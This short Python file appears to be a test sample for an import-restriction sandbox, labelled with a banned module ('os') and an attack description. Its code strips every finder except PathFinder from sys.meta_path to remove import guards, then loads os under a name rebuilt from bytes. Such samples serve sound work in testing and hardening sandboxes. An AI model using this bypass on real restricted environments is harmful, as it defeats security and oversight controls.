# forbidden: os
# attack: drop every finder but the path finder from sys.meta_path (any import guard goes with them), then load os through that finder's spec by a name rebuilt from bytes
# cause: bans
import sys

finder = [m for m in sys.meta_path if m.__name__ == "PathFinder"][0]
sys.meta_path[:] = [finder]
spec = finder.find_spec(bytes([111, 115]).decode())
m = spec.loader.load_module()


def f(x):
    return x + 1 if m.getpid() > 0 else 0
